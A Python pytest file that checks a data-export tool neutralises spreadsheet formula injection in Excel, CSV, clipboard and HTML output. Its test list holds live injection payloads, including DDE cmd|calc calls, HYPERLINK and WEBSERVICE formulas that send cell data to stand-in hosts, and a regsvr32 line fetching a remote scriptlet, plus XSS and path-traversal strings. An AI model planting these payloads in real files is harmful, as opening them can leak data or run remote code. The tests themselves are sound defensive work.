"""Formula injection: hostile text in every place it can reach an export stays inert text."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
from openpyxl.utils.escape import unescape
import pytest

from dpdesk.project.export.results import ResultsBundle, export_results, table_to_html, table_to_tsv
from dpdesk.project.export.safe_text import excel_sheet_name, file_slug, is_formula_like, neutralise

HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1+1",
    "=1+1",
    "+cmd|' /C notepad'!'B1'",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")",
    '=WEBSERVICE("http://x.example")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll'!''",
    "\uff1d1+1",  # full-width equals
    "\uff0b1",  # full-width plus
    "\uff0d1",  # full-width hyphen-minus
    "\uff20SUM(A1)",  # full-width at
    "\ufe661+1",  # small equals
    "\u200b=1+1",  # zero-width space first
    "\ufeff=1+1",  # BOM first
    "\u202e=1+1",  # right-to-left override first
    "   =1+1",  # spaces first
    "\x00=1+1",  # NUL first
    "=1+1\x00",
    "a\x00b\x07c",
    "-",
    "=",
    "-0.5",  # text that looks like a number stays text (escaped)
    "=A1\n=A2",
    "\x1b[31mred",
    "'); import os; os.system('echo pwned'); ('",
    "[Sheet]:*?/\\ with 'quotes' and a very long tail that goes past thirty-one characters",
]
SAFE_TEXTS = ["Q1 cannabis", "'=already quoted", "Fakultät für Rechtswissenschaft", "1e5", "a=b", "x-y", ""]


def inert(field: str) -> bool:
    """A CSV/TSV field is a plain number or text that no spreadsheet runs as a formula."""
    try:
        float(field)
        return True
    except ValueError:
        return not is_formula_like(field)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_text_is_neutralised(text):
    out = neutralise(text)
    assert "\x00" not in out and "\x07" not in out
    assert not is_formula_like(out)
    if is_formula_like(text.replace("\x00", "")):
        assert out.startswith("'")


@pytest.mark.parametrize("text", SAFE_TEXTS)
def test_ordinary_text_is_unchanged(text):
    assert neutralise(text) == text


def hostile_bundle() -> ResultsBundle:
    estimates = [
        {"item": text, "design": text, "n": 10 + i, "estimate": -0.5 + i / 100, "SE": 0.01,
         "CI low": -0.75, "CI high": 0.25, "CI method": text, "confidence": 0.95}
        for i, text in enumerate(HOSTILE)
    ]
    by_group = [{"item": "Q1", "subgroup": text, "n": i, "estimate": -i / 7} for i, text in enumerate(HOSTILE)]
    tables = {"Estimates": estimates, "By faculty": by_group}
    for i, text in enumerate(HOSTILE[:12]):  # hostile sheet names too
        tables[text] = [{text: text, "n": i}]
    metadata = {text: text for text in HOSTILE}
    metadata["nested"] = {"=1+1": ["-1+1", "@x"], "params": {"@p": -0.25}}
    return ResultsBundle(tables, metadata, readme=HOSTILE)


def test_hostile_workbook_has_no_formulas_and_keeps_numbers(tmp_path):
    path = tmp_path / "hostile.xlsx"
    export_results(hostile_bundle(), path)
    wb = openpyxl.load_workbook(path)
    strings = numbers = 0
    for ws in wb:
        assert len(ws.title) <= 31 and not re.search(r"[\[\]:*?/\\]", ws.title)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings += 1
                    assert not is_formula_like(cell.value), (ws.title, cell.coordinate, cell.value)
                    assert "\x00" not in cell.value
                elif cell.value is not None:
                    numbers += 1
                    assert cell.data_type == "n"
    assert strings > 100 and numbers > 100
    assert len({t.lower() for t in wb.sheetnames}) == len(wb.sheetnames) == 12 + 2 + 2
    est = wb["Estimates"]
    # XlsxWriter stores numbers with 16 significant digits (%.16G; Excel keeps 15), so a
    # value comes back within half a unit in the 16th digit: relative error <= 5e-16.
    expected = [-0.5 + i / 100 for i in range(len(HOSTILE))]
    assert [c.value for c in est["D"][1:]] == pytest.approx(expected, rel=5e-16, abs=0)
    # openpyxl does not decode the OOXML escape _x000D_ (carriage return); Excel does.
    assert [unescape(c.value) for c in est["A"][1:]] == [neutralise(t) for t in HOSTILE]
    assert [c.value for c in wb["By faculty"]["D"][1:]] == pytest.approx(
        [-i / 7 for i in range(len(HOSTILE))], rel=5e-16, abs=0)
    meta = {r[0]: r[1] for r in wb["Metadata"].iter_rows(min_row=2, values_only=True)}
    assert meta["nested / params / @p"] == -0.25
    assert meta["'=cmd|'/C calc'!A0"] == "'=cmd|'/C calc'!A0"
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def test_hostile_csv_reads_back_as_inert_text_and_numbers(tmp_path):
    written = export_results(hostile_bundle(), tmp_path / "hostile.csv")
    assert all(p.parent == tmp_path for p in written)
    for path in written:
        if path.suffix != ".csv":
            continue
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        for row in rows:
            for field in row:
                assert inert(field), (path.name, field)
                assert "\x00" not in field
    with open(tmp_path / "hostile.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["item"] for r in rows] == [neutralise(t) for t in HOSTILE]
    assert [float(r["estimate"]) for r in rows] == [-0.5 + i / 100 for i in range(len(HOSTILE))]
    assert rows[0]["estimate"] == "-0.5"


def test_hostile_clipboard_text_is_inert():
    rows = hostile_bundle().tables["Estimates"]
    tsv = table_to_tsv(rows)
    for row in csv.reader(tsv.splitlines(keepends=True), delimiter="\t"):
        for field in row:
            assert inert(field)
    markup = table_to_html(rows)
    assert "<script>" not in table_to_html([{"x": "<script>alert(1)</script>"}])
    assert "&#x27;=cmd|&#x27;/C calc&#x27;!A0" in markup


@pytest.mark.parametrize(
    "name",
    ["History", "history", "Metadata", "Readme", "''quoted''", "a" * 40, "a" * 40, "[]:*?/\\", "",
     "😀" * 20, "tab\there", "=cmd|'/C calc'!A0"],
)
def test_sheet_names_follow_excels_rules(name):
    taken = {"metadata", "readme", "a" * 31}
    out = excel_sheet_name(name, taken)
    assert 1 <= len(out.encode("utf-16-le")) // 2 <= 31
    assert not re.search(r"[\[\]:*?/\\\t\n]", out)
    assert not out.startswith("'") and not out.endswith("'")
    assert out.lower() not in {"history", "metadata", "readme"}
    assert out.lower() in taken


def test_file_slugs_are_plain_and_unique():
    taken: set[str] = set()
    slugs = [file_slug(n, taken) for n in ["../../etc/passwd", "By faculty", "By faculty", "Ünï", "", "=1"]]
    assert slugs == ["etc_passwd", "by_faculty", "by_faculty_2", "uni", "table", "1"]
